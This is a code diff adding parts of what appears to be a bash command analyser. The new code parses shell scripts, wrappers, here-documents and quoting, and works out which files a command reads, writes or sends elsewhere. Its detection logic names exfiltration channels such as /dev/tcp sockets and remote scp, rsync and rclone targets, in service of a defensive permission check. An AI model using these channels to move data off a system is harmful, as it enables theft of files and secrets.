+        if name in SHELLS:
+            self.shell_script(cmd, via, depth)
+            return
+        inner = unwrap(cmd)
+        if inner is not None:
+            wrapper, rest, script = inner
+            if script is not None:
+                self.script([script], (*via, f"{wrapper} -c"), depth)
+            if rest is not None:
+                self.add(rest, (*via, wrapper), depth + 1)
+        elif name == "find":
+            for exec_cmd in find_execs(cmd):
+                self.add(exec_cmd, (*via, "find -exec"), depth + 1)
+
+    def shell_script(self, cmd: Command, via: tuple[str, ...], depth: int) -> None:
+        """``bash -c 'SCRIPT'``, ``sh -xc 'SCRIPT'``, ``bash -o x -c``: SCRIPT is parsed."""
+        args = cmd.words[1:]
+        i = 0
+        while i < len(args):
+            value = args[i].value
+            if not args[i].static:
+                self.analysis.problem("a shell started with options not known until run time")
+                return
+            if value == "--" or not value.startswith(("-", "+")):
+                return  # a script file (or stdin): runs text we cannot see; rules decide
+            if value in ("-o", "+o", "-O", "+O", "--rcfile", "--init-file"):
+                i += 2
+                continue
+            if not value.startswith("--") and "c" in value[1:]:
+                if i + 1 < len(args):
+                    self.script([args[i + 1]], (*via, f"{cmd.basename} -c"), depth)
+                else:
+                    self.analysis.problem("'-c' without a script")
+                return
+            i += 1
+
+    def script(self, words: list[Word], via: tuple[str, ...], depth: int, joined: bool = False) -> None:
+        if not words:
+            return
+        if not all(w.static for w in words):
+            self.analysis.problem(f"{via[-1]} runs text not known until run time")
+            return
+        text = " ".join(w.value for w in words) if joined else words[0].value
+        _analyse_into(self.analysis, text, via, depth + 1)
+
+    def redirect(self, node: Any) -> None:
+        op = ""
+        target: Word | None = None
+        for child in node.children:
+            if child.type in ("file_descriptor",):
+                continue
+            if not child.is_named:
+                op = child.type
+            elif target is None:
+                target = self.word(child)  # later words are the command's (see command())
+        if node.type == "herestring_redirect":
+            if target is not None:
+                self.analysis.data.append(target.value)
+            return
+        if target is None:
+            return
+        if op in (">&", "<&"):
+            if target.static and (target.value.isdigit() or target.value == "-"):
+                return  # duplicates or closes a descriptor
+            if op == "<&":
+                self.analysis.problem("'<&' with a file name is not modelled")
+                return
+            op = ">"
+        if op in _WRITE_OPS:
+            self.analysis.accesses.append(Access("write", target, op))
+        elif op == "<":
+            self.analysis.accesses.append(Access("read", target, op))
+        else:
+            self.analysis.problem(f"redirection {op!r} is not modelled")
+
+    def heredoc(self, node: Any) -> tuple[int, int] | None:
+        """Check that the grammar ended the here-document where bash will, and say whether
+        its body is literal data. Returns the body's span when it is literal."""
+        start = end = body = None
+        strip_tabs = False
+        for child in node.children:
+            if child.type == "heredoc_start":
+                start = child
+            elif child.type == "heredoc_end":
+                end = child
+            elif child.type == "heredoc_body":
+                body = child
+            elif child.type == "<<-":
+                strip_tabs = True
+        if start is None or end is None or body is None:
+            self.analysis.problem("a here-document without an end line")
+            return None
+        raw = self.text(start)
+        quoted = raw[:1] in ("'", '"') and raw[-1:] == raw[:1] and len(raw) >= 2
+        delimiter = raw[1:-1] if quoted else raw
+        if not _DELIMITER.match(delimiter):
+            self.analysis.problem("a here-document delimiter this analyser does not model")
+            return None
+        src = self.src
+        line_end = src.find(b"\n", start.end_byte)
+        if line_end < 0 or line_end + 1 != body.start_byte:
+            # The body must start on the line after the operator; anything else on that
+            # line (more commands, a second here-document) is not modelled.
+            if src[start.end_byte : body.start_byte].strip(b" \t\n"):
+                self.analysis.problem("a here-document followed by more text on its line")
+                return None
+        body_text = src[body.start_byte : end.start_byte]
+        self.analysis.data.append(body_text.decode("utf-8", "surrogateescape"))
+        lines = body_text.split(b"\n")
+        delim = delimiter.encode()
+        for line in lines[:-1]:
+            if (line.lstrip(b"\t") if strip_tabs else line) == delim:
+                self.analysis.problem("a here-document that ends before the grammar says")
+                return None
+        last_line_start = src.rfind(b"\n", 0, end.start_byte) + 1
+        last_line_end = src.find(b"\n", end.end_byte)
+        last_line = src[last_line_start : len(src) if last_line_end < 0 else last_line_end]
+        if (last_line.lstrip(b"\t") if strip_tabs else last_line) != delim:
+            self.analysis.problem("a here-document whose end line bash would not accept")
+            return None
+        if not quoted:
+            if b"\\\n" in body_text:
+                self.analysis.problem("a line continuation in a here-document body")
+            if any(s in body_text for s in (b"`", b"$(", b"${", b"$[")):
+                self.analysis.problem("a here-document body that runs substitutions")
+            return None
+        return (body.start_byte, end.start_byte)
+
+    # -- words ------------------------------------------------------------------------
+
+    def word(self, node: Any) -> Word:
+        """The value bash gives a word node (see :class:`Word`)."""
+        kind = node.type
+        raw = self.text(node)
+        if kind == "word":
+            return _unquoted(raw, leading=True)
+        if kind == "number":
+            return Word(raw, raw)
+        if kind == "raw_string":
+            return Word(raw[1:-1], raw)
+        if kind == "string":
+            return self.double_quoted(node, raw)
+        if kind == "ansi_c_string":
+            value = ansi_c(raw[2:-1])
+            return Word(raw, raw, static=False) if value is None else Word(value, raw)
+        if kind == "concatenation":
+            named = node.named_children
+            parts = [self.word(c) for c in named]
+            if len(named) != len(node.children) or sum(
+                c.end_byte - c.start_byte for c in named
+            ) != (node.end_byte - node.start_byte):
+                return Word(raw, raw, static=False)  # text no part accounts for
+            value = "".join(p.value for p in parts)
+            static = all(p.static for p in parts)
+            glob = any(p.glob for p in parts)
+            tilde = bool(parts) and parts[0].tilde
+            if any(c.type == "word" for c in node.named_children[1:]):
+                # ``~`` expands only at the start; a later unquoted part cannot be a tilde,
+                # but brace expansion (``.{env,x}``) spans parts: look at the unquoted text.
+                unquoted = "".join(
+                    self.text(c) if c.type == "word" else "\x00" for c in node.named_children
+                )
+                if _brace_expansion(unquoted):
+                    static = False
+            return Word(value, raw, static=static, glob=glob, tilde=tilde)
+        if kind == "process_substitution":
+            return Word("/dev/fd/63", raw)
+        return Word(raw, raw, static=False)
+
+    def double_quoted(self, node: Any, raw: str) -> Word:
+        """``"..."``: backslash escapes only ``$ ` " \\`` and newline; any expansion inside
+        makes the value unknown."""
+        if any(c.is_named and c.type != "string_content" for c in node.children):
+            return Word(raw, raw, static=False)
+        inner = raw[1:-1] if raw.endswith('"') and len(raw) >= 2 else raw[1:]
+        out: list[str] = []
+        i = 0
+        while i < len(inner):
+            ch = inner[i]
+            if ch == "\\" and i + 1 < len(inner):
+                nxt = inner[i + 1]
+                if nxt == "\n":
+                    i += 2
+                    continue
+                if nxt in '$`"\\':
+                    out.append(nxt)
+                    i += 2
+                    continue
+            if ch in "$`":
+                return Word(raw, raw, static=False)
+            out.append(ch)
+            i += 1
+        return Word("".join(out), raw)
+
+
+def _redirected_statement_of(node: Any) -> Any:
+    """The ``redirected_statement`` whose redirections belong to command ``node``. The
+    grammar hangs ``a && b > f`` as (a && b) > f; bash gives ``> f`` to the last simple
+    command of a list or pipeline, so that is the one it is attributed to (the file access
+    itself is judged whoever owns it)."""
+    child = node
+    parent = node.parent
+    while parent is not None and parent.type in ("list", "pipeline"):
+        if parent.children[-1].start_byte != child.start_byte:
+            return None  # not the last command of the list
+        child, parent = parent, parent.parent
+    if parent is None or parent.type != "redirected_statement":
+        return None
+    if parent.children[0].start_byte != child.start_byte:
+        return None
+    return parent
+
+
+def _nodes(root: Any) -> Iterator[Any]:
+    """Every node under ``root``, depth first, without recursion (trees can be deep)."""
+    stack = [root]
+    while stack:
+        node = stack.pop()
+        yield node
+        children = node.children
+        if children:
+            stack.extend(reversed(children))
+
+
+def _brace_expansion(text: str) -> bool:
+    """Whether unquoted ``text`` holds a brace expansion (``{a,b}``, ``{1..9}``)."""
+    depth = 0
+    opened = -1
+    for i, ch in enumerate(text):
+        if ch == "{":
+            depth += 1
+            opened = i if depth == 1 else opened
+        elif ch == "}" and depth:
+            depth -= 1
+            if depth == 0 and ("," in text[opened:i] or ".." in text[opened:i]):
+                return True
+    return False
+
+
+def _unquoted(raw: str, leading: bool) -> Word:
+    r"""An unquoted word: ``\x`` is ``x`` (and never a glob), ``*?[`` are globs, a leading
+    ``~`` is the home directory (``~user`` is not modelled), braces may expand."""
+    out: list[str] = []
+    glob = False
+    i = 0
+    while i < len(raw):
+        ch = raw[i]
+        if ch == "\\" and i + 1 < len(raw):
+            if raw[i + 1] != "\n":
+                out.append(raw[i + 1])
+            i += 2
+            continue
+        if ch in _GLOB_CHARS:
+            glob = True
+        elif ch == "$" and i + 1 < len(raw):
+            return Word(raw, raw, static=False)
+        elif ch == "`":
+            return Word(raw, raw, static=False)
+        out.append(ch)
+        i += 1
+    value = "".join(out)
+    static = not _brace_expansion(raw)
+    tilde = False
+    if leading and raw.startswith("~"):
+        if raw == "~" or raw.startswith("~/"):
+            tilde = True
+        else:
+            static = False  # ~user, ~+, ~-: another directory
+    if "\x00" in value:
+        static = False
+    return Word(value, raw, static=static, glob=glob, tilde=tilde)
+
+
+_ANSI_SIMPLE = {
+    "a": "\a", "b": "\b", "e": "\x1b", "E": "\x1b", "f": "\f", "n": "\n", "r": "\r",
+    "t": "\t", "v": "\v", "\\": "\\", "'": "'", '"': '"', "?": "?",
+}  # fmt: skip
+
+
+def ansi_c(body: str) -> str | None:
+    r"""The value of ``$'...'`` (bash's ANSI-C quoting), or None for an escape not modelled
+    (``\c``, a NUL)."""
+    out: list[str] = []
+    i = 0
+    while i < len(body):
+        ch = body[i]
+        if ch != "\\" or i + 1 >= len(body):
+            out.append(ch)
+            i += 1
+            continue
+        nxt = body[i + 1]
+        if nxt in _ANSI_SIMPLE:
+            out.append(_ANSI_SIMPLE[nxt])
+            i += 2
+            continue
+        match = None
+        if nxt in "01234567":
+            match = re.match(r"[0-7]{1,3}", body[i + 1 :])
+            code = int(match.group(0), 8) if match else 0
+        elif nxt == "x":
+            match = re.match(r"x([0-9A-Fa-f]{1,2})", body[i + 1 :])
+            code = int(match.group(1), 16) if match else -1
+        elif nxt in "uU":
+            width = 4 if nxt == "u" else 8
+            match = re.match(rf"{nxt}([0-9A-Fa-f]{{1,{width}}})", body[i + 1 :])
+            code = int(match.group(1), 16) if match else -1
+        else:
+            return None
+        if match is None or code <= 0 or code > 0x10FFFF:
+            return None
+        out.append(chr(code & 0xFF) if nxt not in "uU" else chr(code))
+        i += 1 + len(match.group(0))
+    return "".join(out)
+
+
+# ----------------------------------------------------------------------------- programs
+
+#: Programs whose operands are files they read (every non-option word, over-approximated:
+#: a ``grep`` pattern is judged as a path too, which can only make a call stricter).
+READERS = frozenset({
+    "cat", "head", "tail", "less", "more", "nl", "tac", "grep", "egrep", "fgrep", "rg", "ag",
+    "wc", "sort", "uniq", "cut", "diff", "cmp", "strings", "xxd", "od", "hexdump", "base64",
+    "base32", "file", "stat", "md5sum", "sha1sum", "sha224sum", "sha256sum", "sha384sum",
+    "sha512sum", "b2sum", "cksum", "sum", "jq", "yq", "awk", "gawk", "mawk", "sed", "paste",
+    "join", "comm", "fold", "fmt", "pr", "expand", "unexpand", "iconv", "zcat", "bzcat",
+    "xzcat", "zless", "zgrep", "bat", "batcat", "view", "look", "tr", "column", "csplit",
+    "split", "gpg", "openssl", "source", ".", "readlink", "realpath", "ls", "du", "tree",
+})  # fmt: skip
+#: Programs whose every operand is a file they change, create or remove.
+WRITERS = frozenset({
+    "tee", "rm", "rmdir", "unlink", "shred", "truncate", "touch", "mkdir", "chmod", "chown",
+    "chgrp", "chattr", "setfacl", "ln", "mkfifo", "mknod", "mv", "patch",
+})  # fmt: skip
+#: Programs that read every operand but the last, which they write (``cp a b``).
+COPIERS = frozenset({"cp", "install", "scp", "rsync", "rclone"})
+#: Programs that write files we cannot name (an archive's members, a tree they walk).
+_UNNAMED_WRITERS = {"unzip": "unzip", "7z": "7z", "cpio": "cpio", "git": "git"}
+
+
+def file_accesses(cmd: Command) -> list[Access]:
+    """The files ``cmd`` reads and writes, as far as its program is known."""
+    words = cmd.words
+    if not words:
+        return []
+    name = cmd.basename
+    args = words[1:]
+    operands = [w for w in args if not (w.static and w.value.startswith("-") and w.value != "-")]
+    options = [w for w in args if w.static and w.value.startswith("--") and "=" in w.value]
+    out: list[Access] = []
+
+    def add(mode: str, word: Word | None) -> None:
+        if word is not None and word.static and word.value in ("-", ""):
+            return
+        out.append(Access(mode, word, name))
+
+    for opt in options:  # --file=x, --output=x: a path either way
+        value = opt.value.split("=", 1)[1]
+        mode = "write" if opt.value.startswith(("--output", "--out-file", "--log-file")) else "read"
+        add(mode, Word(value, opt.raw, glob=opt.glob))
+    if name in READERS:
+        for w in operands:
+            add("read", w)
+        if name == "sed" and any(w.static and w.value.startswith("-i") for w in args):
+            for w in operands[1:]:
+                add("write", w)
+        if name == "sort":
+            for i, w in enumerate(args[:-1]):
+                if w.static and w.value == "-o":
+                    add("write", args[i + 1])
+    elif name in WRITERS:
+        for w in operands:
+            add("write", w)
+    elif name in COPIERS:
+        for w in operands[:-1]:
+            add("read", w)
+        if operands:
+            add("write", operands[-1])
+        for i, w in enumerate(args[:-1]):
+            if w.static and w.value in ("-t", "--target-directory"):
+                add("write", args[i + 1])
+        if name in ("scp", "rsync", "rclone"):
+            for w in operands:
+                if not w.static or (":" in w.value and not w.value.startswith(("/", "./"))):
+                    out.append(Access("egress", w, name))
+    elif name == "dd":
+        for w in args:
+            if w.value.startswith("if="):
+                add("read", Word(w.value[3:], w.raw, static=w.static, glob=w.glob))
+            elif w.value.startswith("of="):
+                add("write", Word(w.value[3:], w.raw, static=w.static, glob=w.glob))
+    elif name == "tar":
+        first = args[0].value if args else ""
+        extracting = any(
+            w.static and (w.value in ("-x", "--extract", "--get") or (
+                w.value[:1] != "-" and w is args[0] and "x" in first
+            ) or (w.value.startswith("-") and not w.value.startswith("--") and "x" in w.value))
+            for w in args
+        )
+        for w in operands:
+            add("read", w)
+        if extracting:
+            out.append(Access("write", None, "tar -x"))
+    elif name == "git":
+        out.extend(_git_accesses(cmd))
+    elif name == "find":
+        starts = [w for w in args if not w.value.startswith(("-", "(", ")", "!"))]
+        starts = starts[: next((i for i, w in enumerate(args) if w.value.startswith("-")), len(args))]
+        for w in starts:
+            add("read", w)
+        for i, w in enumerate(args):
+            if w.value in ("-delete",):
+                out.append(Access("write", None, "find -delete"))
+            if w.value in ("-fprint", "-fprint0", "-fprintf", "-fls") and i + 1 < len(args):
+                add("write", args[i + 1])
+    elif name in _UNNAMED_WRITERS:
+        out.append(Access("write", None, name))
+    for w in args:  # /dev/tcp/HOST/PORT as an operand (cat < is a redirect, judged apart)
+        if w.static and w.value.startswith(("/dev/tcp/", "/dev/udp/")):
+            out.append(Access("egress", w, name))
+    return out
+
+
+def _git_accesses(cmd: Command) -> list[Access]:
+    """``git diff --output=F`` writes F; ``git diff --no-index A B`` reads A and B."""
+    args = cmd.words[1:]
+    out: list[Access] = []
+    sub = next((w.value for w in args if not w.value.startswith("-")), "")
+    for i, w in enumerate(args):
+        if w.value == "--output" and i + 1 < len(args):
+            out.append(Access("write", args[i + 1], "git --output"))
+        if w.value in ("-o",) and sub in ("archive", "format-patch") and i + 1 < len(args):
+            out.append(Access("write", args[i + 1], f"git {sub}"))
+    if any(w.value == "--no-index" for w in args):
+        for w in args[args.index(next(w for w in args if w.value == "--no-index")) + 1 :]:
+            if not w.value.startswith("-"):
+                out.append(Access("read", w, "git --no-index"))
+    if sub in ("apply", "am", "checkout", "restore", "reset", "clean", "stash", "mv", "rm"):
+        pass  # inside the work tree; Edit rules on the tree are the scope's business
+    return out
+
+
+def unwrap(cmd: Command) -> tuple[str, Command | None, Word | None] | None:
+    """``sudo -u root rm x`` runs ``rm x``: ``(wrapper, inner command, script)``, where
+    script is a string the wrapper hands to a shell (``su -c``, ``watch 'cmd'``,
+    ``env -S``), or None when ``cmd`` is no wrapper."""
+    name = cmd.basename
+    if name not in WRAPPERS:
+        return None
+    takes_value = _WRAPPER_ARGS.get(name, frozenset())
+    rest = cmd.words[1:]
+    assignments: list[tuple[str, Word]] = list(cmd.assignments)
+    script: Word | None = None
+    runner = _STRING_RUNNERS.get(name)
+    exact = cmd.exact and name != "xargs"
+    while rest:
+        word = rest[0]
+        value = word.value
+        if not word.static:
             break
-        if word in ("-S", "--split-string"):
-            found.append(words[i + 1])
-    for word in words[1:] if words and _name(words[0]) == "env" else []:
-        if word.startswith("--split-string="):
-            found.append(word.split("=", 1)[1])
-        elif word.startswith("-S") and len(word) > 2:
-            found.append(word[2:])
-    return found
+        if runner and value == runner and len(rest) > 1:
+            script = rest[1]
+            rest = rest[2:]
+            continue
+        if name == "env" and (value in ("-S", "--split-string") or value.startswith("-S")):
+            text = rest[1] if value in ("-S", "--split-string") and len(rest) > 1 else None
+            script = text or Word(value[2:], word.raw)
+            rest = rest[2:] if text else rest[1:]
+            continue
+        if name == "env" and value.startswith("--split-string="):
+            script = Word(value.split("=", 1)[1], word.raw)
+            rest = rest[1:]
+            continue
+        if value.startswith("-") and value != "-":
+            rest = rest[2:] if value in takes_value else rest[1:]
+            continue
+        if name == "env" and "=" in value and _NAME.match(value.split("=", 1)[0]):
+            key, _, val = value.partition("=")
+            assignments.append((key, Word(val, word.raw)))
+            rest = rest[1:]
+            continue
+        if name == "timeout" and _DURATION.match(value):
+            rest = rest[1:]
+            continue
+        break
+    skip = _WRAPPER_OPERANDS.get(name, 0)
+    rest = rest[skip:]
+    if name == "watch" and rest:
+        # watch runs its operands joined by spaces through ``sh -c``
+        joined = " ".join(w.value for w in rest)
+        if all(w.static for w in rest):
+            return name, None, Word(joined, joined)
+        return name, Command(rest, assignments, exact=False), None
+    inner = Command(rest, assignments, exact=exact) if rest else None
+    return name, inner, script
 
 
-def _scripts(words: list[str], depth: int) -> list[str]:
-    """Commands hidden in a string another program runs: ``bash -c 'SCRIPT'``, ``eval ...``.
-
-    A script that cannot be parsed raises, which makes the whole command unparseable (never
-    auto-allowed) rather than silently unjudged.
-    """
-    for start in range(len(words)):
-        name = _name(words[start])
-        if name == "eval" and start + 1 < len(words):
-            return simple_commands(" ".join(words[start + 1 :]), depth + 1)
-        if name in _SHELLS:
-            args = words[start + 1 :]
-            for i, arg in enumerate(args):
-                if not arg.startswith("-"):
+def find_execs(cmd: Command) -> list[Command]:
+    """``find -exec CMD {} ;`` / ``-execdir`` / ``-ok``: CMD runs once per match."""
+    found: list[Command] = []
+    words = cmd.words
+    for i, word in enumerate(words):
+        if word.value in ("-exec", "-execdir", "-ok", "-okdir") and i + 1 < len(words):
+            inner: list[Word] = []
+            for arg in words[i + 1 :]:
+                if arg.value in (";", "+"):
                     break
-                if "c" in arg[1:] and not arg.startswith("--") and i + 1 < len(args):
-                    return simple_commands(args[i + 1], depth + 1)
-            return []
-        if name not in _WRAPPERS and not _ASSIGNMENT.match(words[start]):
-            return []
-    return []
+                inner.append(arg)
+            if inner:
+                found.append(Command(inner, [], exact=False))
+    return found
